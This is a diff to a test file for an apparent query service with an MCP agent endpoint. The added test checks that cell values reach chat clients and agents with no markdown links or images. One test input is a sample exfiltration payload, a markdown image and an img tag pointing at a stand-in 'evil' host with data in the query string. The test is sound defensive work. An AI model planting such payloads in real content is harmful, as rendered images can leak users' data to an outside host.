@@ -46,7 +46,7 @@ it('the receipt of SQL on a connection tells a caller nothing of the admin who r
   expect(await verify(svc.callerKey)).toMatchObject({ ok: false, trace_found: false, caller: null, question: null });
 });
 
-it('no cell becomes a link or an image in what a chat client renders', async () => {
+it('9.15: no cell becomes a link or an image in what a chat client or an agent renders', async () => {
   const files = await loadProjectFolder(SHOP);
   const evil = await startTestApp({
     files: {
@@ -66,6 +66,28 @@ it('no cell becomes a link or an image in what a chat client renders', async () 
       });
       expect(body.choices[0].message.content).toContain('x');
       expect(body.choices[0].message.content).not.toMatch(/\]\(|!\[|<img/);
+    }
+    for (const [name, given] of [
+      ['query', { q: 'revenue by segment' }],
+      ['query', { q: 'revenue by segment', format: 'structured' }],
+      ['sql', { sql: "select segment, '[a][b]' as ref from main.orders" }],
+      ['query', { q: 'revenue where segment is "![x](http://evil/?q=Consumer) <img src=y>"' }],
+      ['describe_lens', {}],
+    ] as const) {
+      const reply = await evil.send({
+        ...{ method: 'POST', url: '/mcp' },
+        headers: { 'content-type': 'application/json', host: '127.0.0.1:8080' },
+        payload: {
+          jsonrpc: '2.0',
+          id: 1,
+          method: 'tools/call',
+          params: { name, arguments: { lens: 'shop', ...given } },
+        },
+      });
+      const { content, structuredContent } = JSON.parse(/data: (.*)/.exec(reply.text)?.[1] ?? reply.text).result;
+      expect(content[0].text).not.toMatch(/\]\(|\]\[|\]:|!\[|<img/);
+      // Programs read the cell as it is.
+      if (structuredContent.data) expect(JSON.stringify(structuredContent.data)).toContain('![x](http://evil/');
     }
   } finally {
     await evil.close();
